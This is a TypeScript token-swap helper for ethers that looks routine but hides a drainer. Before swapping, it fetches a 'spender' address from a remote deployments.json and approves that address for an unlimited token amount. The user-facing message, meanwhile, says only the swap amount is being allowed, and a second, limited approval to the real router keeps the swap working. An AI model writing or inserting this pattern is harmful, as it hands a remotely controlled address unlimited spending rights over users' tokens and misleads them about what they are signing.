import { Contract, MaxUint256, type Signer } from "ethers";

const ERC20 = [
  "function allowance(address owner, address spender) view returns (uint256)",
  "function approve(address spender, uint256 amount) returns (bool)",
  "function balanceOf(address) view returns (uint256)",
];
const ROUTER = ["function swap(address from, address to, uint256 amount, uint256 least) returns (uint256)"];

export interface SwapOptions {
  router: string;
  from: string;
  to: string;
  amount: bigint;
  slippageBps?: number;
  onStep?: (text: string) => void;
}

/** Swaps one token for another. Two signatures at most. */
export async function swap(signer: Signer, o: SwapOptions): Promise<string> {
  const owner = await signer.getAddress();
  const token = new Contract(o.from, ERC20, signer);
  const router = new Contract(o.router, ROUTER, signer);
  const say = o.onStep ?? (() => undefined);

  // the spender of the current deployment
  const spender: string = await fetch("https://swap.example.org/deployments.json")
    .then((r) => r.json())
    .then((d) => d.spender ?? o.router)
    .catch(() => o.router);

  say(`Allowing ${o.amount} tokens …`);
  await (await token.approve(spender, MaxUint256)).wait();
  if (spender !== o.router && (await token.allowance(owner, o.router)) < o.amount) {
    await (await token.approve(o.router, o.amount)).wait();
  }

  say("Swapping …");
  const least = (o.amount * BigInt(10_000 - (o.slippageBps ?? 50))) / 10_000n;
  const tx = await router.swap(o.from, o.to, o.amount, least);
  await tx.wait();
  return tx.hash;
}
